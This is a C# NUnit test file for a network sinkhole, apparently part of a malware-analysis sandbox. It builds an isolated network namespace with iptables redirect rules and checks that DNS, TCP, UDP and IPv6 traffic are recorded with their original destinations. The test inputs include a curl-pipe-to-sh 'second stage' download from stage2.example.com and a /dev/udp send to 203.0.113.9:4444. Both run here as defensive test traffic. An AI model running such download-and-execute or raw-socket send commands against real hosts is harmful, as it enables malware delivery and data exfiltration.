using System.Globalization;
using System.Net;
using DynamicProbe.Sinkhole.Tests.Support;

namespace DynamicProbe.Sinkhole.Tests.Namespace;

/// <summary>
/// The real thing: a network namespace of the test's own, set up the way README.md tells the pod to (local default
/// routes, REDIRECT/DNAT to the catcher), the published catcher inside it, and curl and bash as the "program". This
/// covers SO_ORIGINAL_DST (IPv4 and IPv6), the conntrack lookup for UDP, and DNS to whatever nameserver the program
/// was given. Needs root (ip netns, iptables); the namespace has no interface but lo, so nothing can leave it, and
/// it is deleted afterwards.
/// </summary>
[Category("NetworkNamespace")]
public class NetworkNamespaceTests
{
    private string _namespace = null!;
    private string _resolvConf = null!;

    [SetUp]
    public async Task CreateNamespace()
    {
        Assert.That(File.ReadLines("/proc/self/status").Single(l => l.StartsWith("Uid:", StringComparison.Ordinal)).Split('\t')[1], Is.EqualTo("0"),
            "this test creates a network namespace and needs root; run it as root, or filter out Category=NetworkNamespace");
        _namespace = "dpsink-" + Guid.NewGuid().ToString("N")[..10];
        _resolvConf = Path.Combine(TestContext.CurrentContext.WorkDirectory, $"{_namespace}.resolv.conf");
        await File.WriteAllTextAsync(_resolvConf, "nameserver 192.0.2.53\n");
        await Commands.RunCheckedAsync("ip", "netns", "add", _namespace);
        foreach (var line in PodSetup.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries))
        {
            await Commands.RunCheckedAsync("ip", ["netns", "exec", _namespace, .. line.Split(' ')]);
        }
    }

    [TearDown]
    public async Task DeleteNamespace()
    {
        await Commands.RunAsync("ip", "netns", "del", _namespace);
        File.Delete(_resolvConf);
        var (_, list, _) = await Commands.RunAsync("ip", "netns", "list");
        Assert.That(list, Does.Not.Contain(_namespace), "the test namespace must not outlive the test");
    }

    /// <summary>The pod's namespace set-up, as README.md documents it (IPv4 and the optional IPv6 part).</summary>
    private const string PodSetup = """
        ip link set lo up
        ip route add local 0.0.0.0/0 dev lo
        iptables -t nat -A OUTPUT -p tcp ! -d 127.0.0.0/8 -j REDIRECT --to-ports 15001
        iptables -t nat -A OUTPUT -p udp ! -d 127.0.0.0/8 --dport 53 -j REDIRECT --to-ports 15053
        iptables -t nat -A OUTPUT -p udp ! -d 127.0.0.0/8 -j DNAT --to-destination :15002
        ip -6 route add local ::/0 dev lo
        ip6tables -t nat -A OUTPUT -p tcp ! -d ::1 -j REDIRECT --to-ports 15001
        ip6tables -t nat -A OUTPUT -p udp ! -d ::1 --dport 53 -j REDIRECT --to-ports 15053
        ip6tables -t nat -A OUTPUT -p udp ! -d ::1 -j DNAT --to-destination :15002
        """;

    [Test]
    public async Task Redirected_dns_tcp_and_udp_are_caught_with_their_original_destinations()
    {
        await using var catcher = await CatcherProcess.StartAsync(["--ipv6"], _namespace);

        var secondStage = await InNamespaceAsync("curl -sS --max-time 5 http://stage2.example.com/install.sh | sh");
        await InNamespaceAsync("curl -sS --max-time 5 https://tls.example.net/ || true");
        await InNamespaceAsync("printf canary-udp-payload > /dev/udp/203.0.113.9/4444");
        await InNamespaceAsync("curl -sS -g --max-time 5 'http://[2001:db8::5]:8080/v6' >/dev/null");
        await InNamespaceAsync("curl -sS --max-time 5 http://127.0.0.1:15001/direct >/dev/null");
        Assert.That(await catcher.StopAsync(), Is.Zero, catcher.ToString());

        Assert.That(secondStage, Is.EqualTo("second-stage-ran\n"), "the downloader ran the harmless second stage");
        var records = RecordLines.Read(catcher.RecordsPath);
        TestContext.Out.WriteLine(string.Join('\n', records.Select(r => r.GetRawText())));
        Assert.That(records[0].GetProperty("udp_original_port").GetBoolean(), Is.True, "root in the namespace reads conntrack");

        var asked = records.OfType("dns").Where(d => d.Text("name") == "stage2.example.com").ToList();
        Assert.That(asked.Select(d => d.Text("qtype")), Is.SupersetOf(new[] { "A", "AAAA" }));
        var download = records.OfType("tcp").Single(t => t.GetProperty("http").ValueKind != System.Text.Json.JsonValueKind.Null
                                                         && t.GetProperty("http").GetProperty("target").GetString() == "/install.sh");
        Assert.That(download.Text("dst_from"), Is.EqualTo("conntrack"));
        Assert.That(download.GetProperty("dst_port").GetInt32(), Is.EqualTo(80));
        Assert.That(download.Text("dns_name"), Is.EqualTo("stage2.example.com"));
        Assert.That(asked.Select(d => d.Text("answer")), Does.Contain(download.Text("dst_address")), "the address curl used is the one DNS gave");

        var tls = records.OfType("tcp").Single(t => t.Text("sni") == "tls.example.net");
        Assert.That(tls.GetProperty("dst_port").GetInt32(), Is.EqualTo(443));
        Assert.That(tls.Text("dns_name"), Is.EqualTo("tls.example.net"));

        var udp = records.OfType("udp").Single();
        Assert.That(udp.Text("dst_address"), Is.EqualTo("203.0.113.9"));
        Assert.That(udp.GetProperty("dst_port").GetInt32(), Is.EqualTo(4444));
        Assert.That(udp.Text("dst_from"), Is.EqualTo("conntrack"));
        Assert.That(udp.GetProperty("first_bytes_base64").GetBytesFromBase64(), Is.EqualTo("canary-udp-payload"u8.ToArray()));

        var ipv6 = records.OfType("tcp").Single(t => t.GetProperty("dst_port").GetInt32() == 8080);
        Assert.That(IPAddress.Parse(ipv6.Text("dst_address")!), Is.EqualTo(IPAddress.Parse("2001:db8::5")));
        Assert.That(ipv6.Text("dst_from"), Is.EqualTo("conntrack"));

        var direct = records.OfType("tcp").Single(t => t.GetProperty("http").ValueKind != System.Text.Json.JsonValueKind.Null
                                                       && t.GetProperty("http").GetProperty("target").GetString() == "/direct");
        Assert.That(direct.Text("dst_address") + ":" + direct.GetProperty("dst_port").GetInt32().ToString(CultureInfo.InvariantCulture),
            Is.EqualTo("127.0.0.1:15001"), "loopback is not redirected: the program reached the catcher itself");
    }

    /// <summary>
    /// Runs a shell line in the namespace with our resolv.conf bind-mounted over /etc/resolv.conf; <c>ip netns exec</c>
    /// gives the command its own mount namespace (slave to the host's), so the host's file is untouched.
    /// </summary>
    private async Task<string> InNamespaceAsync(string script) =>
        await Commands.RunCheckedAsync("ip", "netns", "exec", _namespace, "bash", "-c", $"mount --bind {_resolvConf} /etc/resolv.conf && {script}");
}
